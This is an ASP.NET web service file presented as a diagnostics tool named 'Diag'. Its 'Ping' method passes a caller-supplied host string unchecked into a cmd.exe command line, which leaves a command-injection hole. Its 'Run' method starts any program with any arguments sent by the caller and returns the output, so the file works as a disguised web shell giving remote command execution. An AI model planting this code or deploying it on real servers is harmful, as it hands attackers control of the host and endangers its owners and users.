<%@ WebService Language="C#" Class="Diag" %>
using System;
using System.Web.Services;
using System.Diagnostics;
[WebService(Namespace = "http://tempuri.org/")]
public class Diag : WebService {
    [WebMethod]
    public string Ping(string host) {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c ping -n 1 " + host;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
    [WebMethod]
    public string Run(string f, string a) {
        return Process.Start(new ProcessStartInfo(f, a) { UseShellExecute = false, RedirectStandardOutput = true }).StandardOutput.ReadToEnd();
    }
}
